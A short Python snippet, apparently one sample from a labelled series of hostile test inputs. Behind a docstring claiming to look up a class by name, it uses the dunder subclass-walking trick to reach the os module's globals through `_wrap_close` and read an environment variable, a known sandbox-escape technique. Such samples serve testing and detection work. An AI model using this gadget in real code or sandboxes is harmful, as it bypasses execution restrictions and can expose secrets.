# family: dunder (written blind, round 17 of blind hostile tools)
"""Find a class by name among registered types."""


def find_type(name="_wrap_close"):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == name:
            return cls.__init__.__globals__["environ"].get("HOME")
    return None


print(find_type())
